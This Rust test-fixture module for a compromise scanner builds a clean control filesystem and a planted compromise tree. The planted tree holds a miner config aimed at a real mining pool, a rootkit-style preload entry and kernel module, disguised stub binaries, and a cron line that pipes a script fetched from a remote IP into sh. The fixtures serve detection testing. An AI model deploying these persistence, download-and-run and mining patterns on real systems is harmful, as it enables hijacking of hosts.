//! Fixture roots: a planted compromise beside a clean control tree.

use ferret_core::{Control, HostRoot};
use ferret_scan::{scan_root, ScanOptions, ScanReport};
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;

/// The Monero project's general-fund donation address (getmonero.org): a real, public address.
pub const XMR: &str =
    "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";

pub fn write(root: &Path, rel: &str, data: impl AsRef<[u8]>, mode: u32) {
    let p = root.join(rel.trim_start_matches('/'));
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(&p, data).unwrap();
    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(mode)).unwrap();
}

pub fn copy(root: &Path, from: &str, to: &str, mode: u32) {
    let data = std::fs::read(from).unwrap_or_else(|e| panic!("{from}: {e}"));
    write(root, to, data, mode);
}

/// A small ELF executable (hand-built: no compiler needed).
pub fn elf_exec() -> Vec<u8> {
    ferret_testkit::elf::build(2, &[(b".text", b"\x31\xc0\xc3"), (b".data", b"hello")])
}

/// A real kernel-module-shaped object: `gcc -c` of a C file with a `.modinfo` section, the way
/// `MODULE_LICENSE`/`MODULE_INFO` lay it out.
pub fn gcc_module(dir: &Path) -> Vec<u8> {
    let c = dir.join("rk.c");
    std::fs::write(
        &c,
        "static const char __mod_name[] __attribute__((section(\".modinfo\"), used)) = \"name=rk\";\n\
         static const char __mod_vermagic[] __attribute__((section(\".modinfo\"), used)) = \"vermagic=6.1.0-18-amd64 SMP preempt mod_unload modversions \";\n\
         static const char __mod_license[] __attribute__((section(\".modinfo\"), used)) = \"license=GPL\";\n\
         int init_module(void) { return 0; }\n",
    )
    .unwrap();
    let o = dir.join("rk.o");
    let st = Command::new("gcc")
        .args(["-c", "-O2", "-o"])
        .arg(&o)
        .arg(&c)
        .status()
        .expect("gcc is needed to build the test kernel module (Debian package gcc)");
    assert!(st.success(), "gcc failed");
    std::fs::read(&o).unwrap()
}

/// The dpkg database of the fixture: `curl` owns /usr/bin/curl, `coreutils` /usr/bin/ls,
/// `libok1` a library.
pub fn dpkg(root: &Path) {
    write(
        root,
        "var/lib/dpkg/status",
        "Package: curl\nStatus: install ok installed\nVersion: 7.88.1-10\nArchitecture: amd64\n\n\
         Package: coreutils\nStatus: install ok installed\nVersion: 9.1-1\nArchitecture: amd64\n\n\
         Package: libok1\nStatus: install ok installed\nVersion: 1.0\nArchitecture: amd64\n",
        0o644,
    );
    write(
        root,
        "var/lib/dpkg/info/curl.list",
        "/usr\n/usr/bin\n/usr/bin/curl\n",
        0o644,
    );
    write(
        root,
        "var/lib/dpkg/info/coreutils.list",
        "/usr\n/usr/bin\n/usr/bin/ls\n",
        0o644,
    );
    write(
        root,
        "var/lib/dpkg/info/libok1.list",
        "/usr/lib/x86_64-linux-gnu\n/usr/lib/x86_64-linux-gnu/libok.so.1\n",
        0o644,
    );
}

/// The clean control tree: what a normal server has in the same places.
pub fn control_tree(root: &Path) {
    write(
        root,
        "etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n",
        0o644,
    );
    dpkg(root);
    copy(root, "/usr/bin/ls", "usr/bin/ls", 0o755);
    copy(root, "/usr/bin/curl", "usr/bin/curl", 0o755);
    write(
        root,
        "usr/lib/x86_64-linux-gnu/libok.so.1",
        ferret_testkit::elf::build(3, &[(b".text", b"\xc3")]),
        0o644,
    );
    write(root, "tmp/notes.txt", "remember the milk\n", 0o644);
    write(
        root,
        "tmp/backup.tar.gz",
        b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03",
        0o644,
    );
    write(
        root,
        "tmp/build.o",
        ferret_testkit::elf::build(1, &[(b".text", b"\xc3")]),
        0o644,
    );
    std::fs::create_dir_all(root.join("tmp/.X11-unix")).unwrap();
    write(
        root,
        "var/tmp/photo.jpg",
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00",
        0o644,
    );
    write(
        root,
        "var/log/syslog",
        "Dec  1 00:00:01 host CRON[1]: (root) CMD (true)\n",
        0o640,
    );
    write(
        root,
        "var/log/apt/history.log",
        "Start-Date: 2026-01-01\n",
        0o644,
    );
    write(
        root,
        "var/spool/cron/crontabs/alice",
        "0 4 * * * /home/alice/bin/report\n",
        0o600,
    );
    write(
        root,
        "etc/cron.d/backup",
        "0 3 * * * root /usr/local/bin/backup.sh\n",
        0o644,
    );
    write(
        root,
        "usr/local/bin/backup.sh",
        "#!/bin/sh\ntar czf /var/backups/etc.tgz /etc\n",
        0o755,
    );
    write(
        root,
        "etc/systemd/system/app.service",
        "[Service]\nExecStart=/usr/bin/python3 /opt/app/main.py\n",
        0o644,
    );
    write(
        root,
        "opt/app/main.py",
        "#!/usr/bin/env python3\nprint('hi')\n",
        0o755,
    );
    write(
        root,
        "opt/app/config.json",
        "{\"listen\": \"127.0.0.1:8080\", \"workers\": 4}\n",
        0o644,
    );
    write(
        root,
        "home/alice/.config/app.json",
        "{\"theme\": \"dark\"}\n",
        0o644,
    );
    write(root, "home/alice/.local/bin/tool", elf_exec(), 0o755);
    write(
        root,
        "home/alice/bin/report",
        "#!/bin/bash\necho report\n",
        0o755,
    );
    write(
        root,
        "srv/project/.git/hooks/pre-commit",
        "#!/bin/sh\nexit 0\n",
        0o755,
    );
    write(
        root,
        "lib/modules/6.1.0-18-amd64/kernel/fs/ok.ko",
        ferret_testkit::elf::relocatable_with_modinfo(b"name=ok\0vermagic=6.1.0-18-amd64 SMP\0"),
        0o644,
    );
    write(root, "usr/share/doc/curl/README", "curl docs\n", 0o644);
}

/// The planted compromise, as the issue describes it.
pub fn planted_tree(root: &Path, scratch: &Path) {
    // A miner and its configuration in a hidden directory below a home's dot-directory.
    write(root, "root/.cache/.x/xmrig", elf_exec(), 0o755);
    write(
        root,
        "root/.cache/.x/config.json",
        format!(
            "{{\n  \"autosave\": true,\n  \"donate-level\": 1,\n  \"cpu\": {{ \"enabled\": true }},\n  \"pools\": [ {{ \"url\": \"stratum+tcp://pool.supportxmr.com:3333\", \"user\": \"{XMR}\", \"pass\": \"x\" }} ]\n}}\n"
        ),
        0o644,
    );
    // A Kinsing-style binary in /tmp.
    write(root, "tmp/kdevtmpfsi", elf_exec(), 0o755);
    // A rootkit module outside the module tree.
    write(root, "var/tmp/rk.ko", gcc_module(scratch), 0o644);
    // An executable disguised as a log.
    write(root, "var/log/x.log.exe", elf_exec(), 0o755);
    // A renamed copy of the system's real curl.
    copy(root, "/usr/bin/curl", "usr/local/bin/kupd", 0o755);
    // A packed binary (UPX is not in Debian 12: the UPX layout is built by hand: UPX0/UPX1
    // sections, the UPX! magic and a compressed-looking payload) in a benign hidden directory.
    let mut payload = b"UPX!".to_vec();
    let mut x: u32 = 0x1234_5678;
    for _ in 0..200_000 {
        x ^= x << 13;
        x ^= x >> 17;
        x ^= x << 5;
        payload.push((x >> 24) as u8);
    }
    write(
        root,
        "tmp/.font-unix/sshd",
        ferret_testkit::elf::build(2, &[(b"UPX0", b""), (b"UPX1", &payload)]),
        0o755,
    );
    // Persistence: cron and systemd.
    write(
        root,
        "etc/cron.d/update",
        "*/5 * * * * root curl -fsSL http://203.0.113.7/ldr.sh | sh\n",
        0o644,
    );
    write(
        root,
        "etc/systemd/system/kworker.service",
        "[Unit]\nDescription=kworker\n[Service]\nExecStart=/root/.cache/.x/xmrig -o stratum+tcp://pool.supportxmr.com:3333 --donate-level 1\nRestart=always\n",
        0o644,
    );
    // A preload rootkit.
    write(
        root,
        "etc/ld.so.preload",
        "/usr/local/lib/libprocesshider.so\n",
        0o644,
    );
    write(
        root,
        "usr/local/lib/libprocesshider.so",
        ferret_testkit::elf::build(3, &[(b".text", b"\xc3")]),
        0o755,
    );
    // A directory named with dots only, holding a bot.
    write(root, "usr/share/.../bot", elf_exec(), 0o755);
    // An executable no package owns in a system path.
    write(root, "usr/bin/kupdate", elf_exec(), 0o755);
}

pub fn scan(root: &Path, opts: &ScanOptions) -> ScanReport {
    scan_root(&HostRoot::new(root).unwrap(), opts, &Control::new())
}

/// (id, subject, also_reported_as) of every finding, sorted.
pub fn summary(r: &ScanReport) -> Vec<(String, String, Vec<String>)> {
    let mut v: Vec<_> = r
        .outcome
        .findings
        .iter()
        .map(|f| (f.id.clone(), f.subject.clone(), f.also_reported_as.clone()))
        .collect();
    v.sort();
    v
}
